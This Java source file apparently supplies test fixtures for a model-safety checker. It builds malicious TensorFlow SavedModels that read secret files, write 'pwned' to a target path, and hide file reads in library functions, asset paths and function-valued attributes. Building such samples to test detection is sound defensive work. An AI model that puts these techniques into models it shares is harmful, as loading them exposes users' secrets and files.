package dev.rnnkit.savedmodel.safety;

import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.function.UnaryOperator;
import org.tensorflow.ConcreteFunction;
import org.tensorflow.Graph;
import org.tensorflow.Operand;
import org.tensorflow.SavedModelBundle;
import org.tensorflow.Session;
import org.tensorflow.Signature;
import org.tensorflow.ndarray.Shape;
import org.tensorflow.op.Ops;
import org.tensorflow.op.core.Placeholder;
import org.tensorflow.proto.AssetFileDef;
import org.tensorflow.proto.DataType;
import org.tensorflow.proto.MetaGraphDef;
import org.tensorflow.proto.SignatureDef;
import org.tensorflow.proto.TensorInfo;
import org.tensorflow.proto.SavedModel;
import org.tensorflow.types.TFloat32;
import org.tensorflow.types.TInt64;
import org.tensorflow.types.TString;

/**
 * SavedModels whose signature {@code serving_default} ({@code x}: float32 [-1] to {@code y})
 * reaches the file system, built with TF Java's ops and exported by its exporter, as an attacker
 * could write them.
 */
public final class UnsafeModels {

  public static final String SIGNATURE = "serving_default";

  private UnsafeModels() {}

  /** y = x + the length in bytes of {@code secret}, read by a ReadFile op in the graph. */
  public static Path readsFile(Path dir, Path secret) throws IOException {
    return export(dir, tf -> {
      Placeholder<TFloat32> x = tf.withName("x").placeholder(TFloat32.class, Placeholder.shape(Shape.of(-1)));
      Operand<TString> contents = tf.withName("read_secret").io.readFile(tf.constant(secret.toString()));
      Operand<TFloat32> length = tf.dtypes.cast(tf.strings.stringLength(contents), TFloat32.class);
      return Signature.builder().key(SIGNATURE).input("x", x)
          .output("y", tf.withName("y").math.add(x, length)).build();
    });
  }

  /** y = x, after a WriteFile op in the graph writes "pwned" to {@code target}. */
  public static Path writesFile(Path dir, Path target) throws IOException {
    return export(dir, tf -> {
      Placeholder<TFloat32> x = tf.withName("x").placeholder(TFloat32.class, Placeholder.shape(Shape.of(-1)));
      var write = tf.withName("drop_file").io.writeFile(tf.constant(target.toString()), tf.constant("pwned"));
      return Signature.builder().key(SIGNATURE).input("x", x)
          .output("y", tf.withName("y").withControlDependencies(write).identity(x)).build();
    });
  }

  /** As {@link #readsFile}, but the ReadFile hides in a function of the graph's library. */
  static Path readsFileInAFunction(Path dir, Path secret) throws IOException {
    try (ConcreteFunction reader = ConcreteFunction.create(tf -> {
      Placeholder<TFloat32> in = tf.placeholder(TFloat32.class, Placeholder.shape(Shape.of(-1)));
      Operand<TString> contents = tf.withName("hidden_read").io.readFile(tf.constant(secret.toString()));
      return Signature.builder().input("in", in).output("out",
          tf.math.add(in, tf.dtypes.cast(tf.strings.stringLength(contents), TFloat32.class))).build();
    })) {
      return export(dir, tf -> {
        Placeholder<TFloat32> x = tf.withName("x").placeholder(TFloat32.class, Placeholder.shape(Shape.of(-1)));
        @SuppressWarnings("unchecked")
        Operand<TFloat32> y = (Operand<TFloat32>) reader.call(tf, x);
        return Signature.builder().key(SIGNATURE).input("x", x)
            .output("y", tf.withName("y").identity(y)).build();
      });
    }
  }

  /** y = x, after a PrintV2 prints "hello" to {@code stream} (e.g. "stderr" or "file:///tmp/x"). */
  static Path prints(Path dir, String stream) throws IOException {
    return export(dir, tf -> {
      Placeholder<TFloat32> x = tf.withName("x").placeholder(TFloat32.class, Placeholder.shape(Shape.of(-1)));
      var print = tf.withName("say_hello").print(tf.constant("hello"),
          org.tensorflow.op.core.Print.outputStream(stream));
      return Signature.builder().key(SIGNATURE).input("x", x)
          .output("y", tf.withName("y").withControlDependencies(print).identity(x)).build();
    });
  }

  /** The file name under {@code assets/} that the table models below declare. */
  static final String ASSET = "vocab.txt";

  /**
   * Output {@code lines}: the lines of {@code secret}, read into a lookup table when the signature
   * runs. The path constant is declared as the asset {@value #ASSET}, but only the loader
   * substitutes an asset's real path; a signature runs with the path as stored.
   */
  static Path returnsTableFilledFromAssetPath(Path dir, Path secret) throws IOException {
    return withAsset(export(dir, tf -> {
      Placeholder<TFloat32> x = tf.withName("x").placeholder(TFloat32.class, Placeholder.shape(Shape.of(-1)));
      Operand<TString> path = tf.withName("asset_path").constant(secret.toString());
      return Signature.builder().key(SIGNATURE).input("x", x)
          .output("lines", tableLines(tf, path)).build();
    }), "asset_path:0");
  }

  /** As above, but the path is the signature's input {@code path}, declared as the asset. */
  static Path readsTableFromInputPath(Path dir) throws IOException {
    return withAsset(export(dir, tf -> {
      Placeholder<TString> path = tf.withName("path").placeholder(TString.class, Placeholder.shape(Shape.scalar()));
      return Signature.builder().key(SIGNATURE).input("path", path)
          .output("lines", tableLines(tf, path)).build();
    }), "path:0");
  }

  /**
   * Output {@code path}: the asset path tensor itself, holding {@code stored}. Its table is
   * filled by the init op only, as the loader does it.
   */
  static Path returnsAssetPath(Path dir, String stored) throws IOException {
    return withAsset(export(dir, tf -> {
      Placeholder<TFloat32> x = tf.withName("x").placeholder(TFloat32.class, Placeholder.shape(Shape.of(-1)));
      Operand<TString> path = tf.withName("asset_path").constant(stored);
      return Signature.builder().key(SIGNATURE).input("x", x)
          .output("path", tf.withName("path_out").identity(path)).build();
    }), "asset_path:0");
  }

  /**
   * Output {@code lines}: the lines of {@code secret}, through a function handed over as an
   * attribute. The library function {@code fill_and_export(t, p)} fills table t from file p and
   * returns its keys; the init op calls it on the asset path, as a loader would. The signature
   * calls {@code indirect} with {@code g = fill_and_export} as a function-valued attribute, and
   * {@code indirect} calls {@code g} on a constant path, so no node names fill_and_export as
   * the function it calls.
   */
  static Path readsTableThroughAFunctionAttribute(Path dir, Path secret) throws IOException {
    Path model = export(dir, tf -> {
      Placeholder<TFloat32> x = tf.withName("x").placeholder(TFloat32.class, Placeholder.shape(Shape.of(-1)));
      return Signature.builder().key(SIGNATURE).input("x", x).output("y", tf.withName("y").identity(x)).build();
    });
    editMetaGraph(model, meta -> {
      MetaGraphDef.Builder b = meta.toBuilder();
      b.getGraphDefBuilder()
          .addNode(ProtoNodes.stringConst("asset_path", "vocab.txt"))
          .addNode(ProtoNodes.hashTable("table1")).addNode(ProtoNodes.hashTable("table2"))
          .addNode(ProtoNodes.call("init_call", ProtoNodes.function("fill_and_export"), "table1", "asset_path"))
          .addNode(ProtoNodes.node("init_op", "NoOp", "^init_call"))
          .addNode(ProtoNodes.call("leak", ProtoNodes.function("indirect", "g",
              ProtoNodes.function("fill_and_export")), "table2"));
      b.getGraphDefBuilder().getLibraryBuilder()
          .addFunction(ProtoNodes.fillAndExport()).addFunction(ProtoNodes.callsAttribute("indirect", "g", secret));
      b.putSignatureDef("__saved_model_init_op", SignatureDef.newBuilder().putOutputs(
          "__saved_model_init_op", TensorInfo.newBuilder().setName("init_op").build()).build());
      b.putSignatureDef(SIGNATURE, b.getSignatureDefOrThrow(SIGNATURE).toBuilder().putOutputs("lines",
          TensorInfo.newBuilder().setName("leak:0").setDtype(DataType.DT_STRING).build()).build());
      return b.build();
    });
    return withAsset(model, "asset_path:0");
  }

  /** The keys of a table filled from {@code path}, one line each, after filling it. */
  private static Operand<TString> tableLines(Ops tf, Operand<TString> path) {
    var table = tf.withName("table").hashTable(TString.class, TInt64.class);
    var fill = tf.withName("fill_table").initializeTableFromTextFile(table, path, -2L, -1L);
    return tf.withName("lines").withControlDependencies(fill)
        .lookupTableExport(table, TString.class, TInt64.class).keys();
  }

  /** Declares {@code tensor} as the MetaGraph's asset {@value #ASSET} and writes that file. */
  private static Path withAsset(Path dir, String tensor) throws IOException {
    Files.createDirectories(dir.resolve("assets"));
    Files.writeString(dir.resolve("assets").resolve(ASSET), "harmless\n");
    editMetaGraph(dir, meta -> meta.toBuilder().addAssetFileDef(AssetFileDef.newBuilder()
        .setFilename(ASSET).setTensorInfo(TensorInfo.newBuilder().setName(tensor))).build());
    return dir;
  }

  private static Path export(Path dir, java.util.function.Function<Ops, Signature> build)
      throws IOException {
    try (Graph graph = new Graph(); Session session = new Session(graph)) {
      Signature signature = build.apply(Ops.create(graph));
      SavedModelBundle.exporter(dir.toString()).withSession(session).withSignature(signature)
          .export();
    }
    return dir;
  }

  /** Rewrites the first MetaGraph of the SavedModel in {@code dir}. */
  public static void editMetaGraph(Path dir, UnaryOperator<MetaGraphDef> edit) throws IOException {
    Path file = dir.resolve("saved_model.pb");
    SavedModel model;
    try (InputStream in = Files.newInputStream(file)) {
      model = SavedModel.parseFrom(in);
    }
    try (OutputStream out = Files.newOutputStream(file)) {
      model.toBuilder().setMetaGraphs(0, edit.apply(model.getMetaGraphs(0))).build().writeTo(out);
    }
  }

  /** The first MetaGraph of the SavedModel in {@code dir}. */
  static MetaGraphDef metaGraph(Path dir) throws IOException {
    try (InputStream in = Files.newInputStream(dir.resolve("saved_model.pb"))) {
      return SavedModel.parseFrom(in).getMetaGraphs(0);
    }
  }
}
